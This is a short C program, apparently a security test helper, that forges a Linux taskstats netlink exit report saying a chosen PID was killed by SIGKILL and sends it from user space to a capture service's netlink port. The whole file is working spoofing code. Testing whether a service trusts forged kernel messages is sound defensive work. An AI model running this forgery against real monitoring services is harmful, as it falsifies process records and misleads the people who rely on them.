/* Sends a made-up taskstats exit report — "pid PID was killed by SIGKILL" — from user space to
 * the netlink port PORT, as any local process could try against the capture service:
 *   forge_exit PORT PID */
#include <linux/genetlink.h>
#include <linux/netlink.h>
#include <linux/taskstats.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define ATTRIBUTE_DATA(a) ((char *)(a) + NLA_HDRLEN)

static int family_id(int fd)
{
    struct { struct nlmsghdr header; struct genlmsghdr generic; char attributes[64]; } request = {0};
    struct nlattr *name = (struct nlattr *)request.attributes;
    request.header.nlmsg_type = GENL_ID_CTRL;
    request.header.nlmsg_flags = NLM_F_REQUEST;
    request.generic.cmd = CTRL_CMD_GETFAMILY;
    request.generic.version = 1;
    name->nla_type = CTRL_ATTR_FAMILY_NAME;
    name->nla_len = NLA_HDRLEN + sizeof "TASKSTATS";
    strcpy(ATTRIBUTE_DATA(name), "TASKSTATS");
    request.header.nlmsg_len = NLMSG_HDRLEN + GENL_HDRLEN + NLA_ALIGN(name->nla_len);
    if (send(fd, &request, request.header.nlmsg_len, 0) < 0)
        return -1;
    char reply[4096];
    int length = recv(fd, reply, sizeof reply, 0) - NLMSG_HDRLEN - GENL_HDRLEN;
    struct nlattr *attribute = (struct nlattr *)(reply + NLMSG_HDRLEN + GENL_HDRLEN);
    while (length > 0) {
        if (attribute->nla_type == CTRL_ATTR_FAMILY_ID)
            return *(unsigned short *)ATTRIBUTE_DATA(attribute);
        length -= NLA_ALIGN(attribute->nla_len);
        attribute = (struct nlattr *)((char *)attribute + NLA_ALIGN(attribute->nla_len));
    }
    return -1;
}

int main(int argc, char **argv)
{
    if (argc != 3)
        return 64;
    int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_GENERIC);
    int family = family_id(fd);
    if (family < 0) {
        fprintf(stderr, "no TASKSTATS family\n");
        return 1;
    }
    static char message[2048];
    struct nlmsghdr *header = (struct nlmsghdr *)message;
    struct genlmsghdr *generic = (struct genlmsghdr *)(message + NLMSG_HDRLEN);
    struct nlattr *aggregate = (struct nlattr *)(message + NLMSG_HDRLEN + GENL_HDRLEN);
    struct nlattr *pid = (struct nlattr *)ATTRIBUTE_DATA(aggregate);
    struct nlattr *stats = (struct nlattr *)((char *)pid + NLA_ALIGN(NLA_HDRLEN + 4));
    struct taskstats *fake = (struct taskstats *)ATTRIBUTE_DATA(stats);
    unsigned target = (unsigned)atoi(argv[2]);

    pid->nla_type = TASKSTATS_TYPE_PID;
    pid->nla_len = NLA_HDRLEN + 4;
    memcpy(ATTRIBUTE_DATA(pid), &target, 4);
    stats->nla_type = TASKSTATS_TYPE_STATS;
    stats->nla_len = NLA_HDRLEN + sizeof *fake;
    fake->version = TASKSTATS_VERSION;
    fake->ac_exitcode = 9;       /* SIGKILL */
    fake->ac_flag = 0x20;        /* AGROUP: the last thread */
    fake->ac_pid = target;
    fake->ac_tgid = target;
    fake->ac_btime64 = (unsigned long long)time(NULL) - 10;
    fake->ac_etime = fake->ac_tgetime = 10000000;
    aggregate->nla_type = TASKSTATS_TYPE_AGGR_PID;
    aggregate->nla_len = NLA_HDRLEN + NLA_ALIGN(pid->nla_len) + NLA_ALIGN(stats->nla_len);
    generic->cmd = TASKSTATS_CMD_NEW;
    generic->version = 1;
    header->nlmsg_type = family;
    header->nlmsg_len = NLMSG_HDRLEN + GENL_HDRLEN + NLA_ALIGN(aggregate->nla_len);

    struct sockaddr_nl to = {.nl_family = AF_NETLINK, .nl_pid = (unsigned)strtoul(argv[1], NULL, 10)};
    if (sendto(fd, message, header->nlmsg_len, 0, (struct sockaddr *)&to, sizeof to) < 0) {
        perror("sendto");
        return 2;
    }
    return 0;
}
